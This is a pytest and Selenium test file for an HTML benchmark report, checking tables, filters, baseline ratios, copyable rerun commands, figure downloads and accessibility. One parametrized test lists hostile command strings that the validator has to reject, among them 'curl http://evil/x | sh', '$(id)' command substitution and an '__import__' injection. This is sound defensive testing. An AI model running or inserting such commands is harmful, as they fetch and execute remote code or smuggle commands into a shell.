"""Interaction with the page: filter, baseline, unfolded rows, commands, figures."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from core.case import Case
from framebench.machine import local
from framebench.records.sidecars.calls import CallEntry
from framebench.report import again, colours, html_tables
from framebench.tables import registry
from framebench.tables.arrangement import MOST, UNFOLDED
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from ...conftest import ROOT
from ..browser import AXE, Browser, choose, make
from ..made_up_records import write_records
from ..made_up_runs import run

WIDTHS = (1440, 1024, 390)
ROWS = "[...document.querySelectorAll(`#table-${arguments[0]} tbody tr[data-row]`)]"
#: Number of columns of each table, and its overhang beyond the window.
TABLES = """[...document.querySelectorAll("main table")].map((table) => ({
    name: table.closest("[id]").id,
    columns: table.tHead.rows[0].cells.length,
    theirs: Boolean(table.closest(".layout")),
    beyond: Math.max(0, table.getBoundingClientRect().right - window.innerWidth),
    inside: Math.max(...[...table.querySelectorAll("td")].map((cell) =>
        cell.scrollWidth - cell.clientWidth)),
}))"""


def press(browser: Browser, *keys: str) -> None:
    for key in keys:
        browser.driver.switch_to.active_element.send_keys(key)


def first(browser: Browser, table: str) -> Any:
    return browser.driver.find_element(By.CSS_SELECTOR, f"#table-{table} tbody tr[data-row]")


def unfolded(browser: Browser, table: str) -> str:
    browser.evaluate("document.querySelector(arguments[0]).click()", f"#table-{table} .unfold")
    return str(browser.driver.find_element(By.CSS_SELECTOR, f"#table-{table} tr.more").text)


# ---- tables -------------------------------------------------------------------------------------


@pytest.mark.parametrize("width", WIDTHS)
def test_no_table_is_wider_than_the_window(browser: Browser, page: Path, width: int) -> None:
    browser.open(page, width=width)
    assert browser.evaluate("document.documentElement.scrollWidth") <= width
    actual = browser.evaluate(TABLES)
    assert len(actual) > 10
    for table in actual:
        # Tables in another publisher's layout have its number of columns.
        assert table["theirs"] or table["columns"] <= MOST, table
        assert table["beyond"] <= 0, table
        assert table["inside"] <= 1, table


@pytest.mark.parametrize("width", [1440, 1024])
def test_no_word_is_split(browser: Browser, quick: Path, width: int) -> None:
    """Fail if a name of a model or mode is broken anywhere but after a "_"."""
    browser.open(quick, width=width)
    split = browser.evaluate(
        """[...document.querySelectorAll("td.key")].filter((cell) => {
          const texts = [...cell.childNodes].filter((node) => node.nodeType === 3);
          return texts.some((node) => [...node.data.matchAll(/[^\\s_]+/g)].some((word) => {
            const range = document.createRange();
            range.setStart(node, word.index);
            range.setEnd(node, word.index + word[0].length);
            return range.getClientRects().length > 1;
          }));
        }).map((cell) => `${cell.closest("[id^=table-]").id}: ${cell.textContent}`)"""
    )
    assert not split, f"at {width} pixels"


def test_what_the_filter_hides_is_hidden_on_a_narrow_page_too(
    browser: Browser, quick: Path
) -> None:
    browser.open(quick, width=390, query="?mode=inference")
    shown = browser.evaluate(
        "[...document.querySelectorAll('.answers tbody tr')]"
        ".filter((row) => row.getBoundingClientRect().height > 0).map((row) => row.innerText)"
    )
    assert len(shown) == 1
    assert "inference" in shown[0]


def answered(browser: Browser) -> dict[str, tuple[str, str]]:
    """Return the fastest framework and its figure, by the setting of each answer."""
    rows = browser.evaluate(
        "[...document.querySelectorAll('.answers tbody tr')]"
        ".map((row) => [...row.cells].slice(0, 3).map((cell) => cell.textContent.trim()))"
    )
    return {setting: (fastest, figure) for setting, fastest, figure in rows}


@pytest.mark.parametrize(
    ("base", "asked", "fastest", "baseline"),
    [
        ("framework:pytorch", "inference fp32 1n1g", "mxnet hybridize", "pytorch inductor"),
        ("precision:fp32", "train amp 1n1g", "pytorch none", "pytorch none train fp32 1n1g"),
        ("devices:1n1g", "train fp32 1n2g", "pytorch none", "pytorch none train fp32 1n1g"),
    ],
)
def test_the_figures_of_the_answers_become_ratios_to_the_baseline(
    browser: Browser, quick: Path, base: str, asked: str, fastest: str, baseline: str
) -> None:
    """Fail if ratios of the answers are not of the fastest framework, or are not undone."""
    before = answered(browser.open(quick))
    figures = {}
    for case, text in rows_of(browser, "summary", "median").items():
        framework, model, mode, precision, compiler, devices = (text.split()[0] for text in case)
        if model == "resnet50_v1.5" and text[0] != view_dash():
            key = f"{framework} {compiler} {mode} {precision} {devices}"
            figures[key] = float(text.split()[0])
    own, other = (
        figures[name if name.count(" ") > 1 else f"{name} {asked}"] for name in (fastest, baseline)
    )
    after = answered(browser.open(quick, query=f"?base={base}"))
    value = base.partition(":")[2]
    divided = f"\N{MULTIPLICATION SIGN} \N{DIVISION SIGN} {value}"
    in_words = {
        "inference fp32 1n1g": "inference, fp32, 1 core",
        "train amp 1n1g": "training, mixed, 1 core",
        "train fp32 1n2g": "training, fp32, 2 x 1 core",
    }
    _, text = after[f"ResNet-50 v1.5 {in_words[asked]}, batch 2"]
    assert text.endswith(divided), text
    assert float(text.removesuffix(divided)) == pytest.approx(own / other, abs=0.006)
    for setting, (_, text) in after.items():
        assert divided in text or "baseline" in text, f"{setting}: {text} is no ratio"
    table = browser.column("fastest", f"median \N{DIVISION SIGN} {value}")
    assert sorted(table) == sorted(text.split()[0] for _, text in after.values())
    browser.driver.find_element(By.CSS_SELECTOR, "#ask [type=reset]").click()
    assert answered(browser) == before


def test_what_is_between_backticks_is_code(browser: Browser, quick: Path) -> None:
    browser.open(quick)
    assert "tensor" in browser.evaluate(
        "[...document.querySelectorAll('main p > code')].map((one) => one.textContent)"
    )
    assert not browser.evaluate(
        "[...document.querySelectorAll('main p')].filter((one) => one.textContent.includes('`'))"
        ".map((one) => one.textContent)"
    )


def test_a_missing_figure_says_where_its_reason_stands(browser: Browser, quick: Path) -> None:
    browser.open(quick)
    texts = browser.column("inference_step_time", "p99 ms")
    assert texts
    assert {*texts} == {f"{view_dash()} {UNFOLDED}"}


def test_the_answer_comes_first_and_decides_the_order(browser: Browser, page: Path) -> None:
    browser.open(page)
    for name in ("fastest", "weak_scaling", "precision_speedup", "compiler_speedup"):
        heads = browser.evaluate(
            "[...document.querySelectorAll(`#table-${arguments[0]} th`)].map(th => th.innerText)",
            name,
        )
        assert heads[0].startswith("verdict"), name
        table = registry.known()[name]
        title = table.by_name[table.order].header
        texts = browser.column(name, title)
        values = [float(text.split()[0]) for text in texts if text[0] != view_dash()]
        assert values == sorted(values, reverse=True), name
        assert len(values) > 2, name


def view_dash() -> str:
    from framebench.tables.formatting import DASH

    return DASH


def test_every_caption_says_machine_day_and_commit(browser: Browser, quick: Path) -> None:
    browser.open(quick)
    captions = browser.evaluate(
        "[...document.querySelectorAll('main .table table, .answers, main figure')].map(one =>"
        " (one.querySelector('caption, figcaption') ?? one).innerText)"
    )
    assert len(captions) > 20
    for caption in captions:
        assert re.search(r"Measured: Intel.*, \d{4}-\d\d-\d\d, commit \w+", caption), caption


def test_a_declaration_names_columns_that_there_are() -> None:
    for table in registry.known().values():
        columns = table.overview.columns if table.overview else table.columns
        names = {column.name for column in columns}
        assert {*table.answers, table.order.removeprefix("-")} <= {*names, ""}, table.name
        assert table.answering or table.crosstabs, table.name


def test_rows_say_the_same_with_and_without_a_script(browser: Browser, page: Path) -> None:
    """Fail if a cell in the page differs from the one that its script draws."""

    def cells() -> dict[str, Any]:
        actual: dict[str, Any] = browser.evaluate(
            "Object.fromEntries([...document.querySelectorAll('.table[id]')].map(table =>"
            " [table.id, [...table.querySelectorAll('tbody tr:not(.more)')].map(row =>"
            " [...row.cells].map(cell =>"
            " cell.textContent.replace(/[\\u25b8\\s]+/g, ' ').trim()))]))"
        )
        return actual

    browser.driver.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": True})
    try:
        static = browser.open(page)
        # The driver's own scripts run all the same.
        assert not browser.evaluate("document.querySelector('.unfold')")
        details = browser.driver.find_element(By.CSS_SELECTOR, "#table-summary tr.more").text
        assert "min" in details
        assert "records 1 2 3" in details.replace("\n", " ")
        written = cells()
        assert static.evaluate("document.querySelector('#ask').hidden")
    finally:
        browser.driver.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": False})
    browser.open(page)
    for name in written:
        browser.all_rows(name.removeprefix("table-"))
    drawn = cells()
    assert written.keys() == drawn.keys()
    for name, rows in written.items():
        assert sorted(rows) == sorted(drawn[name])[: len(rows)] or all(
            row in drawn[name] for row in rows
        ), name
    assert len(written["table-summary"]) == html_tables.MAX_ROWS < len(drawn["table-summary"])


# ---- filter and baseline ------------------------------------------------------------------------


def test_one_filter_holds_for_all_exactly_and_stands_in_the_address(
    browser: Browser, page: Path
) -> None:
    browser.open(page)
    choose(browser, "framework", "tensorflow")
    choose(browser, "mode", "train")
    for table in ("summary", "weak_scaling", "efficiency"):
        browser.all_rows(table)
        assert set(browser.column(table, "framework")) == {"tensorflow"}, table
        texts = browser.driver.find_element(By.ID, f"table-{table}").text
        assert re.search(r"16 of \d+ rows", texts), table
    heads = browser.evaluate(
        "[...document.querySelectorAll('#table-overview th')].map(th => th.innerText.trim())"
    )
    assert heads == ["measured", "setting", "tensorflow"]
    charts = browser.driver.find_element(By.CSS_SELECTOR, "[data-draws]").text
    assert "tensorflow + xla" in charts
    assert "pytorch" not in charts
    assert "inference" not in charts
    shown = browser.evaluate(
        "[...document.querySelectorAll('#steps figure')].filter(one => !one.hidden)"
        ".map(one => one.querySelector('h3').innerText)"
    )
    assert shown
    assert all("tensorflow" in title and "train" in title for title in shown)
    address = browser.driver.current_url
    assert address.endswith("?framework=tensorflow&mode=train")
    browser.driver.get("about:blank")
    browser.driver.get(address)
    assert set(browser.column("summary", "framework")) == {"tensorflow"}
    assert browser.evaluate("document.querySelectorAll('#ask input:checked').length") == 2
    browser.driver.find_element(By.CSS_SELECTOR, "#ask [type=reset]").click()
    assert browser.driver.current_url == page.as_uri()
    browser.all_rows("efficiency")
    assert len(set(browser.column("efficiency", "framework"))) == 3


def test_a_value_of_the_address_that_there_is_not_is_left_out(browser: Browser, page: Path) -> None:
    browser.open(page, query="?framework=caffe&base=framework:caffe&colour=red")
    browser.all_rows("efficiency")
    assert len(set(browser.column("efficiency", "framework"))) == 3
    assert browser.driver.get_log("browser") == []


def test_a_filter_that_leaves_nothing_says_so(browser: Browser, page: Path) -> None:
    browser.open(page, query="?framework=jax&compiler=xla")
    assert "0 of 72 rows" in browser.driver.find_element(By.ID, "table-summary").text
    assert "leaves no case to draw" in browser.driver.find_element(By.ID, "charts").text


def rows_of(browser: Browser, table: str, title: str) -> dict[tuple[str, ...], str]:
    """Return the texts of a column, by the case of the row."""
    browser.all_rows(table)
    case = ("framework", "model", "mode", "precision", "compiler", "devices")
    keys = zip(*(browser.column(table, name) for name in case), strict=True)
    return dict(zip(keys, browser.column(table, title), strict=True))


@pytest.mark.parametrize(
    ("base", "of", "to"),
    [
        ("framework:pytorch", {"framework": "jax"}, {"framework": "pytorch"}),
        ("precision:fp32", {"precision": "amp"}, {"precision": "fp32"}),
        ("devices:1n1g", {"devices": "1n2g"}, {"devices": "1n1g"}),
        ("compiler:none", {"compiler": "inductor"}, {"compiler": "none"}),
    ],
)
def test_figures_become_ratios_to_the_baseline(
    browser: Browser, page: Path, base: str, of: dict[str, str], to: dict[str, str]
) -> None:
    usual = {
        "framework": "pytorch", "model": "resnet50_v1.5", "mode": "train", "precision": "fp32",
        "compiler": "none", "devices": "1n1g",
    }  # fmt: skip
    if of == {"framework": "jax"}:
        usual["mode"] = "inference"  # nobody trains it without its compiler
    key, based = (tuple({**usual, **entry}.values()) for entry in (of, to))

    def named(rows: dict[tuple[str, ...], str]) -> dict[tuple[str, ...], str]:
        """Return rows by the compiler's name alone."""
        return {tuple(word.split(" (")[0] for word in case): text for case, text in rows.items()}

    figures = named(rows_of(browser.open(page), "summary", "median"))
    value, baseline = (float(figures[item].split()[0]) for item in (key, based))
    title = f"median \N{DIVISION SIGN} {base.partition(':')[2]}"
    ratios = named(rows_of(browser.open(page, query=f"?base={base}"), "summary", title))
    assert float(ratios[key].split("\N{MULTIPLICATION SIGN}")[0]) == pytest.approx(
        value / baseline, abs=0.006
    )
    assert ratios[based].startswith("1.00")
    assert "has no interval here" in browser.driver.find_element(By.ID, "ask").text


def test_side_by_side_too_becomes_ratios_and_what_has_none_says_why(
    browser: Browser, page: Path
) -> None:
    browser.open(page, query="?base=framework:jax")
    texts = ROWS + ".map(row => [...row.cells].map(cell => cell.innerText))"
    rows = browser.evaluate(texts, "overview")
    settings = {f"{row[0].lstrip()} {row[1]}": row[2:] for row in rows}
    fp32 = next(
        cells for name, cells in settings.items() if "inference" in name and "fp32 1n1g" in name
    )
    assert fp32[0].startswith("1.00\N{MULTIPLICATION SIGN}")
    amp = next(cells for name, cells in settings.items() if "amp" in name)
    assert any("no baseline" in cell for cell in amp), amp


# ---- rows ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def called(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the page of records of a case in the suite quick, with the call that measured them."""
    folder = tmp_path_factory.mktemp("called")
    batch = 2 * (local.detect().physical_cores or 1)  # of training in the suite, on this machine
    write_records(folder / "runs", 1, frameworks=("pytorch", "jax"), batches=(batch,))
    command = "snakemake --cores all --config suite=quick results=there retry=failed"
    call = CallEntry("2029-12-31T23:59:00Z", "quick", command)
    make(folder / "runs", folder / "report.html", calls=[call])
    return folder / "report.html"


def test_a_row_unfolds_to_all_else_and_has_an_address(browser: Browser, called: Path) -> None:
    browser.open(called)
    assert not browser.driver.find_elements(By.CSS_SELECTOR, "tr.more")
    details = unfolded(browser, "summary")
    assert "host GiB" in details
    assert "records" in details
    name = first(browser, "summary").get_attribute("id")
    browser.open(called, query=f"?framework=jax&framework=pytorch#{name}")
    row = browser.driver.find_element(By.ID, name)
    assert row.find_element(By.CSS_SELECTOR, ".unfold").get_attribute("aria-expanded") == "true"
    assert browser.evaluate(
        "(box => box.top >= 0 && box.bottom <= innerHeight)"
        "(document.getElementById(arguments[0]).getBoundingClientRect())",
        name,
    )


def test_the_copied_command_measures_that_case_again(browser: Browser, called: Path) -> None:
    browser.open(called, query="?framework=pytorch&precision=fp32&compiler=none&devices=1n1g"
                 "&model=resnet50_v1.5&mode=train")  # fmt: skip
    browser.driver.execute_cdp_cmd(
        "Browser.grantPermissions",
        {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]},
    )
    unfolded(browser, "summary")
    button = browser.driver.find_element(By.CSS_SELECTOR, "[data-copy]")
    button.click()
    copied = browser.driver.execute_async_script(
        "navigator.clipboard.readText().then(arguments[0], error => arguments[0](String(error)))"
    )
    assert copied == browser.driver.find_element(By.CSS_SELECTOR, "#table-summary code").text
    assert "copied" in browser.driver.find_element(By.CSS_SELECTOR, "#table-summary .take").text
    assert "results=there" not in copied
    ignored = subprocess.run(["git", "check-ignore", "-q", "again-AbC123/"], cwd=ROOT, check=False)
    assert ignored.returncode == 0, "git would commit what is measured again"
    snakemake = shlex.quote(str(Path(sys.executable).parent / "snakemake"))
    pasted = copied.replace("snakemake", f"{snakemake} --dry-run --quiet rules", 1)
    ran = subprocess.run(
        ["bash", "-c", f'set -e; out="$(mktemp -d)"; {pasted.replace("again-", "$out/again-")}'
                       ' && ls "$out"; rm -r "$out"'],
        cwd=ROOT, capture_output=True, text=True, check=False,
    )  # fmt: skip
    said = ran.stdout + ran.stderr
    assert ran.returncode == 0, said
    assert re.search(r"^again-\w+$", ran.stdout, re.MULTILINE), "not into a folder of its own"
    jobs = dict(re.findall(r"^(\w+)\s+(\d+)$", said, re.MULTILINE))
    assert jobs.get("benchmark") == "1", f"not the one repeat of one case: {said}"


def test_a_command_is_that_of_the_call_with_the_case_alone() -> None:
    command = "snakemake all --cores 2 --config suite='my suite.yaml' results=old -C cases=x seed=3"
    call = CallEntry("2030-01-01T00:00:00Z", "mine", f"{command} --sdm conda")
    assert again.command(call) == (
        "snakemake all --cores 2 --sdm conda --config 'suite=my suite.yaml' seed=3 "
        f"{again.FOLDER} cases="
    )
    one = replace(run(started=100.0), record=Path("r1.json"))
    calls = [(50.0, call), (150.0, call._replace(suite="later"))]
    assert again.call_of(one, calls) is call
    assert again.call_of(one, calls[1:]) is None
    assert again.call_of(run(), calls) is None, "what was imported was measured by no call"


@pytest.mark.parametrize(
    "command",
    [
        "snakemake --cores all; curl http://evil/x | sh",
        "curl http://evil/x",
        "/tmp/snakemake --cores all",
        "snakemake --cores 'all $(id)'",
        "snakemake --cores all --snakefile /tmp/evil",
        "snakemake -s/tmp/evil --cores all",
        "snakemake --cores all --default-resources 'mem=__import__(1)'",
        "snakemake --cores all --workflow-profile /tmp/evil",
        "snakemake --cores all --config suite='$(id)'",
        "snakemake --cores all --config suite='`id`'",
        "snakemake --cores all --config suite='a\nb'",
        "snakemake --cores all --config evil=1",
        "snakemake --cores all --config=suite='x;y'",
        "snakemake --cores all --config interpreters='{pytorch: /tmp/x}'",
        "snakemake --cores all clean",
        "snakemake --cores",
        "",
    ],
)
def test_a_strangers_command_is_not_offered(command: str) -> None:
    with pytest.raises(ValueError, match=r"unknown word|another program"):
        again.command(CallEntry("2030-01-01T00:00:00Z", "mine", command))


@pytest.mark.parametrize(
    "command", ["-c4 -k", "--cores=all -j 8", "-call --config model=my.py:Net"]
)
def test_a_command_of_known_words_is_offered(command: str) -> None:
    call = CallEntry("2030-01-01T00:00:00Z", "mine", f"snakemake {command}")
    assert again.command(call).startswith("snakemake -")


def test_a_case_has_the_name_that_its_plan_has() -> None:
    one = run(sequence_length=128, suite_variant="fast", accumulation=2, nodes=2)
    case = Case("pytorch", "resnet50_v1.5", "train", 2, 1, 32, "fp32", "none", 128, "fast", (), 2)
    assert again.case_of(one) == str(case)
    assert "batch max" in again.case_of(replace(run(), largest=True))


# ---- figures ------------------------------------------------------------------------------------


def test_the_chart_follows_and_says_its_values_under_the_pointer(
    browser: Browser, page: Path
) -> None:
    browser.open(page)
    line = browser.driver.find_element(By.CSS_SELECTOR, "[data-draws] [data-tip]")
    browser.evaluate(
        "arguments[0].dispatchEvent(new PointerEvent('pointermove', {bubbles: true}))", line
    )
    tip = browser.driver.find_element(By.ID, "tip")
    assert tip.is_displayed()
    assert re.match(r".+: [\d.]+.*; repeats [\d.]+(, [\d.]+){6}$", tip.text), tip.text
    axis = browser.driver.find_element(By.CSS_SELECTOR, "[data-draws] svg").text
    assert "throughput, sequences/s" in axis
    browser.open(page, query="?base=framework:pytorch")
    axis = browser.driver.find_element(By.CSS_SELECTOR, "[data-draws] svg").text
    assert "throughput, times pytorch" in axis


@pytest.fixture
def downloads(browser: Browser, tmp_path: Path) -> Iterator[Path]:
    browser.driver.execute_cdp_cmd(
        "Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path)}
    )
    yield tmp_path
    browser.driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "default"})


def test_every_figure_can_be_saved(browser: Browser, quick: Path, downloads: Path) -> None:
    from selenium.webdriver.support.ui import WebDriverWait

    browser.open(quick)
    figures = browser.driver.find_elements(By.CSS_SELECTOR, "figure")
    assert all(len(figure.find_elements(By.CSS_SELECTOR, "[data-save]")) == 2 for figure in figures)
    for web_element in (figures[0], figures[-1]):  # drawn by the page, drawn before
        for button in web_element.find_elements(By.CSS_SELECTOR, "[data-save]"):
            browser.evaluate("arguments[0].click()", button)
    WebDriverWait(browser.driver, 60).until(
        lambda _: len([*downloads.glob("*.svg")]) == len([*downloads.glob("*.png")]) == 2
    )
    for path in downloads.glob("*.svg"):
        text = path.read_text()
        assert "var(" not in text, f"{path.name} needs the colours of a page"
        assert text.startswith("<svg")
    for path in downloads.glob("*.png"):
        content = path.read_bytes()
        assert content.startswith(b"\x89PNG")
        assert int.from_bytes(content[16:20]) >= 760, "no wider than on a page"


def test_a_framework_has_one_colour_in_every_report() -> None:
    shipped = [path.name for path in (ROOT / "scripts" / "frameworks").iterdir() if path.is_dir()]
    shipped = [name for name in shipped if not name.startswith(("_", "."))]
    numbers = {name: colours.number(name) for name in shipped}
    assert len(set(numbers.values())) == len(shipped), numbers
    assert 0 <= colours.number("caffe") < colours.COUNT


# ---- accessibility ------------------------------------------------------------------------------


@pytest.mark.parametrize(("width", "scheme"), [(1440, "light"), (390, "dark")])
def test_axe_finds_nothing(browser: Browser, called: Path, width: int, scheme: str) -> None:
    query = "?base=framework:pytorch&model=bert_base&mode=train"
    browser.open(called, width=width, scheme=scheme, query=query)
    unfolded(browser, "summary")
    browser.evaluate("document.querySelector('.pick').open = true")
    browser.driver.execute_script(AXE.read_text(encoding="utf-8"))
    actual = browser.driver.execute_async_script(
        # The inside of drawings is hidden from screen readers.
        "axe.run({exclude: ['svg']}, {resultTypes: ['violations']}).then(arguments[0])"
    )
    said = [
        (
            violation["id"],
            violation["help"],
            [node["html"][:200] for node in violation["nodes"][:3]],
        )
        for violation in actual["violations"]
    ]
    assert not said, json.dumps(said, indent=1)
    assert len(actual["passes"]) > 20, "axe has looked at nothing"


def test_the_keyboard_alone_suffices(browser: Browser, called: Path) -> None:
    browser.open(called)
    browser.evaluate("document.querySelector('#ask summary').focus()")
    press(browser, Keys.ENTER, Keys.TAB, Keys.SPACE, Keys.ESCAPE)
    assert browser.driver.current_url.endswith("?framework=jax")
    assert browser.evaluate("document.activeElement.tagName") == "SUMMARY"
    assert not browser.evaluate("document.querySelector('.pick').open")
    browser.evaluate("document.querySelector('#table-summary th button').focus()")
    press(browser, Keys.ENTER)
    assert browser.head("summary", "median").get_attribute("aria-sort") == "ascending"
    assert browser.evaluate("document.activeElement.closest('th')?.innerText").startswith("median")
    browser.evaluate("document.querySelector('#table-summary .unfold').focus()")
    press(browser, Keys.ENTER)
    assert browser.driver.find_elements(By.CSS_SELECTOR, "#table-summary tr.more")
    press(browser, Keys.TAB)
    assert browser.evaluate("document.activeElement.matches('#table-summary .more a')")


def test_on_paper_nothing_is_cut(browser: Browser, quick: Path) -> None:
    browser.open(quick, width=718)  # A4 between its margins
    browser.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "print"})
    try:
        assert browser.evaluate("document.documentElement.scrollWidth") <= 718
        assert all(table["beyond"] <= 0 for table in browser.evaluate(TABLES))
        visible = "[...document.querySelectorAll(arguments[0])].some(one => one.offsetWidth)"
        for gone in ("#ask", "nav", ".take", ".unfold", ".further"):
            assert not browser.evaluate(visible, gone), gone
        assert browser.evaluate(visible, "#table-summary td")
        sizes = browser.evaluate(
            "['header p', 'main li', 'main p', 'caption'].map((one) => parseFloat("
            "getComputedStyle(document.querySelector(one)).fontSize) * 72 / 96)"
        )
        assert max(sizes) <= 9.6, f"points of running text: {sizes}"
    finally:
        browser.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": ""})


# ---- print --------------------------------------------------------------------------------------


def test_the_picture_of_the_page_has_the_numbers_of_its_list(browser: Browser, quick: Path) -> None:
    sys.path.insert(0, str(ROOT / "docs"))
    try:
        import picture
    finally:
        sys.path.remove(str(ROOT / "docs"))
    text = (ROOT / "docs" / "reading-a-report.md").read_text()
    assert "](report.png)" in text
    numbers = [int(number) for number in re.findall(r"^(\d)\. \*\*", text, re.MULTILINE)]
    assert numbers == sorted(picture.MARKED), "the list and the picture have other numbers"
    browser.open(quick)
    for number, selector in picture.MARKED.items():
        assert browser.driver.find_elements(By.CSS_SELECTOR, selector), f"{number}: {selector}"
    for name in ("report.png", "quick.png"):
        content = (picture.DOCS / name).read_bytes()
        assert content.startswith(b"\x89PNG")
        assert len(content) < 200_000
